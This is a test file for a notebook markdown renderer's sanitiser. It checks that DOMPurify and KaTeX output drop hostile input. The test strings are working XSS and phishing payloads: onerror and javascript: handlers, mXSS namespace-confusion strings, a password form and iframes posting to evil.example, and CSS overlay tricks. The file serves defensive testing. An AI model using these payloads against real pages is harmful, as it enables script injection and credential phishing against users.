// @vitest-environment jsdom
/**
 * Attack payloads through the real pipeline: markdown-it, real KaTeX, real DOMPurify in a DOM
 * (jsdom). Each asserts what comes out, read back as a DOM.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { loadKatex } from "./math";
import { renderMarkdown } from "./render";

beforeAll(async () => {
  await loadKatex();
});

/** The rendered markdown as a DOM fragment, to ask what survived. */
function rendered(source: string): HTMLElement {
  const box = document.createElement("div");
  box.innerHTML = renderMarkdown(source);
  return box;
}

/** Every declaration name in every style attribute that came out. */
function styleProperties(box: HTMLElement): string[] {
  return [...box.querySelectorAll("[style]")].flatMap((el) =>
    (el.getAttribute("style") ?? "").split(";").map((d) => d.split(":")[0]!.trim().toLowerCase()).filter(Boolean),
  );
}

const OVERLAYS = [
  '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>',
  '<div style="POSITION: FIXED; TOP: 0; LEFT: 0; WIDTH: 100vw; HEIGHT: 100vh">x</div>',
  '<div style="position : absolute ; top:-200px ; z-index : 2147483647">x</div>',
  '<div style="color:red; position:fixed !important">x</div>',
  '<div style="pos\\69tion:fixed; inset:0">x</div>',
  '<div style="position:f\\69xed; inset:0">x</div>',
  '<div style="posi/**/tion:fixed; inset:0">x</div>',
  '<div style="color:red/*;*/;position:fixed">x</div>',
  '<div style="position:sticky; top:0">x</div>',
  '<div style="transform:translate(-50vw,-900px) scale(40)">x</div>',
  '<div style="translate:0 -900px">x</div>',
  '<div style="margin-top:-9999px; height:9999px; background:red">x</div>',
  '<div style="background:url(https://evil.example/track.png)">x</div>',
  '<div style="background-image:URL(\'javascript:alert(1)\')">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="color:var(--accent); display:contents">x</div>',
  '<div style="display:fixed">x</div>',
  '<svg style="position:fixed;inset:0" width="10" height="10"><rect style="position:fixed" width="5" height="5"/></svg>',
  '<math style="position:fixed;inset:0"><mi style="position:fixed">x</mi></math>',
  '<img src="x.png" style="position:fixed; top:0; left:0; width:100%">',
];

describe("style attributes in markdown", () => {
  it.each(OVERLAYS)("keep nothing that positions, layers, moves or loads: %s", (payload) => {
    const box = rendered(payload);
    const props = styleProperties(box);
    for (const forbidden of ["position", "inset", "top", "left", "z-index", "transform", "translate", "background-image"]) {
      expect(props).not.toContain(forbidden);
    }
    expect(box.innerHTML).not.toMatch(/fixed|absolute|sticky|url\(|expression|!important|var\(|-9999/i);
  });

  it("keep the declarations people use in Jupyter markdown", () => {
    const box = rendered(
      '<p style="color: #c00; background-color: rgb(255, 250, 200); font-weight: bold; font-style: italic; text-align: center; font-size: 1.2em; font-family: \'Courier New\', monospace">Note</p>\n\n' +
        '<img src="plot.png" style="width: 300px; max-width: 100%; float: right; margin: 0 0 1em 1em; border: 1px solid #ccc">',
    );
    expect(box.querySelector("p")!.getAttribute("style")).toBe(
      "color: #c00; background-color: rgb(255, 250, 200); font-weight: bold; font-style: italic; text-align: center; font-size: 1.2em; font-family: 'Courier New', monospace",
    );
    expect(box.querySelector("img")!.getAttribute("style")).toBe("width: 300px; max-width: 100%; float: right; margin: 0 0 1em 1em; border: 1px solid #ccc");
  });

  it("keep the harmless half of a mixed style", () => {
    const box = rendered('<span style="color: green; position: fixed; z-index: 9; text-decoration: underline">ok</span>');
    expect(box.querySelector("span")!.getAttribute("style")).toBe("color: green; text-decoration: underline");
  });
});

describe("other ways out of the cell", () => {
  it("drops <style> elements, in HTML and in SVG", () => {
    const box = rendered("<style>.site-header{display:none} *{position:fixed}</style>\n\n<svg><style>*{position:fixed}</style><circle r=\"4\"/></svg>\n\ntext");
    expect(box.querySelector("style")).toBeNull();
    expect(box.innerHTML).not.toContain("position");
  });

  it("keeps only markdown's own class names, never the app's", () => {
    const box = rendered(
      '<div class="site-header onboarding-toast visually-hidden">a</div>\n\n<div class="alert alert-block alert-info evil">b</div>\n\n```python\nx = 1\n```',
    );
    const [first, second] = box.querySelectorAll("div");
    expect(first!.hasAttribute("class")).toBe(false);
    expect(second!.getAttribute("class")).toBe("alert alert-block alert-info");
    expect(box.querySelector("code")!.getAttribute("class")).toBe("language-python");
  });

  it("drops data attributes, by which the app finds its cells and controls", () => {
    const box = rendered('<div data-cell-id="c1" data-testid="cell" data-shortcuts-toggle>x</div>');
    expect(box.querySelector("div")!.attributes).toHaveLength(0);
  });

  it("drops popovers, dialogs, autofocus and SVG overflow", () => {
    const box = rendered(
      '<div popover="manual" autofocus tabindex="0">p</div>\n\n<dialog open>d</dialog>\n\n<svg overflow="visible" width="10" height="10"><rect x="-5000" y="-5000" width="20000" height="20000"/></svg>',
    );
    expect(box.querySelector("[popover], [autofocus], dialog, [overflow]")).toBeNull();
  });

  it("drops forms, frames, objects, scripts and event handlers", () => {
    const box = rendered(
      [
        '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
        '<iframe src="https://evil.example" style="position:fixed;inset:0"></iframe>',
        '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
        '<script>alert(1)</script><img src="x" onerror="alert(1)"><div onmouseover="alert(1)">hover</div>',
        '<select><option>a</option></select><textarea>t</textarea>',
      ].join("\n\n"),
    );
    expect(box.querySelector("form, input, button, iframe, object, embed, script, select, textarea")).toBeNull();
    expect(box.innerHTML).not.toMatch(/onerror|onmouseover|evil\.example/);
  });

  it("drops javascript: links and opens the others in a new tab without this page", () => {
    const box = rendered('[js](javascript:alert(1)) <a href="JaVaScRiPt:alert(2)">js2</a> <a href="https://example.org">ok</a>');
    // markdown-it leaves a javascript: link as text; DOMPurify takes the href off the raw one.
    const links = [...box.querySelectorAll("a")];
    expect(links.map((a) => a.getAttribute("href"))).toEqual([null, "https://example.org"]);
    expect(links[1]!.getAttribute("target")).toBe("_blank");
    expect(links[1]!.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });

  it("survives namespace confusion (mXSS through svg and math)", () => {
    const box = rendered(
      [
        '<svg><foreignObject><div style="position:fixed;inset:0">f</div></foreignObject></svg>',
        '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<svg><a xlink:href="javascript:alert(1)"><text y="10">x</text></a></svg>',
      ].join("\n\n"),
    );
    expect(box.querySelector("foreignObject, style, [onerror]")).toBeNull();
    expect(box.innerHTML).not.toMatch(/onerror|javascript:|position/i);
  });
});

describe("KaTeX's output", () => {
  it("keeps its classes and its offsets, and loses the mark that let it", () => {
    const box = rendered("A fraction $\\frac{a}{b}$ and $$\\sqrt{x^2}$$");
    const katex = box.querySelectorAll(".katex");
    expect(katex).toHaveLength(2);
    expect(box.querySelector(".mfrac .vlist")).not.toBeNull();
    expect(styleProperties(box)).toContain("top");
    expect(box.innerHTML).not.toContain("data-tandem-math");
  });

  it("gives a person's HTML nothing of KaTeX's freedom, even pretending to be KaTeX", () => {
    const box = rendered('<span class="katex" data-tandem-math="guess"><span class="onboarding-toast" style="position:relative; top:-900px">x</span></span>');
    const inner = box.querySelector("span span")!;
    expect(inner.hasAttribute("class")).toBe(false);
    expect(inner.hasAttribute("style")).toBe(false);
    expect(box.innerHTML).not.toContain("data-tandem-math");
  });

  it("caps the sizes a formula asks for", () => {
    const box = rendered("$\\rule{5000em}{5000em}$");
    const styles = [...box.querySelectorAll(".katex-html [style]")].map((el) => el.getAttribute("style")).join(";");
    const sizes = [...styles.matchAll(/(\d+(?:\.\d+)?)em/g)].map((m) => parseFloat(m[1]!));
    expect(sizes.length).toBeGreaterThan(0);
    expect(Math.max(...sizes)).toBeLessThanOrEqual(50);
  });
});
